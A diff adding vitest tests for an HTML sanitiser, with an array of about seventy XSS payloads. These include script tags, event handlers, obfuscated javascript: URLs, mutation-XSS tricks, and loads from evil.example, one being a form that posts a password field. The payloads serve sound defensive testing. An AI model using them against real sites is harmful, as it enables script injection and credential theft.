@@ -1,0 +1,190 @@
+import { describe, expect, test } from 'vitest'
+import { allowedAttributes, allowedTags, imageSource, isSafeHref } from '#contract/html'
+import { createSanitizer } from '../../../server/pages/sanitize'
+import { payloads } from '../../full/hostile/payloads'
+
+const sanitize = createSanitizer('/images/')
+
+/** The tags of some HTML that is well-formed, as a sanitiser's output is, with their attributes. */
+function tagsOf(html: string): { name: string; attributes: Record<string, string> }[] {
+  return [...html.matchAll(/<([a-z][^\s/>]*)([^>]*)>/gi)].map(([, name = '', rest = '']) => ({
+    name: name.toLowerCase(),
+    attributes: Object.fromEntries(
+      [...rest.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)].map(([, key, value = '']) => [key, value]),
+    ),
+  }))
+}
+
+const js = 'javascript:alert(1)'
+
+const hostile = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script/x>alert(1)</script foo>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x.png" onload=alert(1)>',
+  '<img src="x.png"onerror="alert(1)">',
+  '<img/src=x.png/onerror=alert(1)>',
+  `<img src="${js}">`,
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<img srcset="https://evil.example/a.png 1x" src="a.png">',
+  '<img src="https://evil.example/pixel.png">',
+  '<img src="//evil.example/pixel.png">',
+  '<img src="/images/../api/get-data">',
+  '<svg onload=alert(1)><circle/></svg>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<math href="javascript:alert(1)">x</math>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="x.swf"></object><embed src="x.swf">',
+  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<style>body{display:none}</style>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  `<a href="${js}">x</a>`,
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="java&#x09;script:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="file:///etc/passwd">x</a>',
+  '<a href="blob:https://x/1">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="/\\evil.example">x</a>',
+  '<a href="https://example.org" target=_blank onclick=alert(1) ping="https://evil.example">x</a>',
+  '<p style="position:fixed;inset:0" id=root class=banner name=x onmouseover=alert(1)>x</p>',
+  '<p id="hydration">x</p><a name="baseUrl">y</a>',
+  '<div data-x="1" aria-hidden="true" tabindex=1 contenteditable autofocus onfocus=alert(1)>x</div>',
+  '<table background="javascript:alert(1)"><tr><td background=x>x</td></tr></table>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<video src=x onerror=alert(1)><source src=x></video><audio src=x></audio>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
+  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
+  '<img title="><img src=x onerror=alert(1)>" src="a.png">',
+  '<a title="&quot; onmouseover=alert(1) x=&quot;" href="#">x</a>',
+  '<button onclick=alert(1)>x</button><select><option>x</option></select>',
+  '<custom-element onclick=alert(1)>x</custom-element>',
+  '<p><<img src=x onerror=alert(1)>',
+  '<p title="`onmouseover=alert(1)">',
+  '<dialog open>x</dialog><slot name=x></slot>',
+  '<a href="https://example.org',
+]
+
+test('hostile bodies are harmless after sanitising', () => {
+  for (const html of new Set([...hostile, ...payloads])) {
+    const clean = sanitize(html)
+    for (const { name, attributes } of tagsOf(clean)) {
+      expect(allowedTags, html).toContain(name)
+      for (const [attribute, value] of Object.entries(attributes)) {
+        const allowed = [...(allowedAttributes['*'] ?? []), ...(allowedAttributes[name] ?? []), 'rel', 'loading']
+        expect(allowed, html).toContain(attribute)
+        if (attribute === 'href') expect(value, html).toMatch(/^(?:https?:\/\/|mailto:|tel:|#|\/(?![/\\])|[\w-]+$)/)
+        if (attribute === 'src') expect(value, html).toMatch(/^\/images\/[^/]+$/)
+      }
+    }
+    // What was code is gone, not shown as text.
+    if (/<(?:script|style)/i.test(html)) expect(clean, html).not.toMatch(/display:none|^alert/)
+    expect(sanitize(clean), 'the same when done again').toBe(clean)
+  }
+})
+
+describe('what a body may have', () => {
+  test.each([
+    ['<h1>Title</h1>', '<h2>Title</h2>'],
+    ['<h2 id="a">T</h2><h6>t</h6>', '<h2>T</h2><h3>t</h3>'],
+    ['<p dir="rtl" lang="ar" title="t">نص</p>', '<p dir="rtl" lang="ar" title="t">نص</p>'],
+    ['<ol start="3"><li>x</li></ol>', '<ol start="3"><li>x</li></ol>'],
+    ['<pre><code class="python">a &lt; b</code></pre>', '<pre><code>a &lt; b</code></pre>'],
+    ['<table><tr><td colspan="2" width="5">x</table>', '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'],
+    ['<td>outside of a table</td>', 'outside of a table'],
+    ['<p>a<div>b</p>c', '<p>a</p><div>b<p></p>c</div>'],
+    ['<p><button><p>a</p></button></p>', '<p></p><p>a</p><p></p>'],
+    ['</div></article><p>a', '<p>a</p>'],
+    ['<pre>\n\n a</pre>', '<pre>\n\n a</pre>'],
+    ['<select><p>a<b></select>b', '<p>a<b>b</b></p>'],
+    ['a'.padEnd(2_000, '<div>'), ''],
+    [`<p>${Array.from({ length: 300 }, (_, index) => `<b title=${index}>`).join('')}${'<p>a'.repeat(300)}`, ''],
+    ['a & b < c', 'a &amp; b &lt; c'],
+    ['<time datetime="2026-01-01">x</time>', '<time datetime="2026-01-01">x</time>'],
+    ['<center>kept text</center>', 'kept text'],
+    ['', ''],
+  ])('%.100s becomes %s', (html, clean) => {
+    expect(sanitize(html)).toBe(clean)
+  })
+
+  test.each([
+    ['https://example.org/a?b=1&amp;c', 'https://example.org/a?b=1&amp;c', true],
+    ['HTTP://EXAMPLE.ORG', 'HTTP://EXAMPLE.ORG', true],
+    ['mailto:a@example.org', 'mailto:a@example.org', false],
+    ['tel:+963411234567', 'tel:+963411234567', false],
+    ['/courses/a', '/courses/a', false],
+    ['#part', '#part', false],
+    ['?show=14', '?show=14', false],
+  ])('a link to %s stays; one to another site gets rel', (href, kept, isExternal) => {
+    expect(sanitize(`<a href="${href}">x</a>`)).toBe(
+      `<a href="${kept}"${isExternal ? ' rel="noopener noreferrer"' : ''}>x</a>`,
+    )
+  })
+
+  test.each([
+    ['<img src="a b.png" alt="A" width="10">', 'a%20b.png'],
+    ['<img src="/images/صورة.webp">', encodeURIComponent('صورة.webp')],
+    ['<img src="images/a.png">', 'a.png'],
+  ])('%s is a picture of the image base', (html, name) => {
+    expect(tagsOf(sanitize(html))).toMatchObject([
+      { name: 'img', attributes: { src: `/images/${name}`, alt: expect.any(String), loading: 'lazy' } },
+    ])
+  })
+
+  test('with an image base elsewhere, pictures come from there', () => {
+    const elsewhere = createSanitizer('https://cdn.example.org/i/')
+    for (const src of ['a.png', 'https://cdn.example.org/i/a.png']) {
+      expect(tagsOf(elsewhere(`<img src="${src}">`))[0]?.attributes.src).toBe('https://cdn.example.org/i/a.png')
+    }
+    expect(elsewhere('<img src="https://cdn.example.org/other/a.png">')).toBe('')
+  })
+})
+
+test.each([
+  ['https://a.example', true],
+  ['\u00a0javascript:x', false],
+  ['//a.example', false],
+  ['\\\\a.example', false],
+  ['', false],
+  ['page', true],
+  ['page:x', false],
+  ['ht\ttps://a.example', true],
+])('isSafeHref(%j) is %s', (href, isSafe) => {
+  expect(isSafeHref(href)).toBe(isSafe)
+})
+
+test.each([
+  ['a.png', '/images/a.png'],
+  ['100%.png', '/images/100%25.png'],
+  ['%D8%A7.png', '/images/%D8%A7.png'],
+  ['..%2fa.png', undefined],
+  ['.env', undefined],
+  ['', undefined],
+  ['a/b.png', undefined],
+  ['C:a.png', undefined],
+])('imageSource(%j) is %s', (src, source) => {
+  expect(imageSource(src, '/images/')).toBe(source)
+})
